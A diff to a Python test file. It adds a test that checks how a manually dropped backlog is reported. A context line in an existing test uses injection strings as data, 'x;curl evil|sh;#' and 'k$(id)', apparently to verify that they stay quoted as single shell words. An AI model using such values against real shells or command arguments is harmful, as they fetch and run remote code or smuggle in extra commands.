@@ -205,3 +205,8 @@ def test_a_command_to_paste_holds_what_an_author_wrote_as_one_word() -> None:
     (found,) = resolve_references(seen, Held({}))
     command = shlex.split(found.help("secrets"))
     assert command[5:] == ["generic", "x;curl evil|sh;#", "--from-file=k$(id)=FILE"]
+
+
+def test_what_was_given_up_by_hand_is_told() -> None:
+    act = {"at": "2026-01-01T00:00:00Z", "who": "ann@desk", "what": "backlog_dropped", "count": 19_914}
+    assert "Given up:      19,914 by ann@desk, 2026-01-01T00:00:00Z" in for_people(picture({"byHand": [act]}))
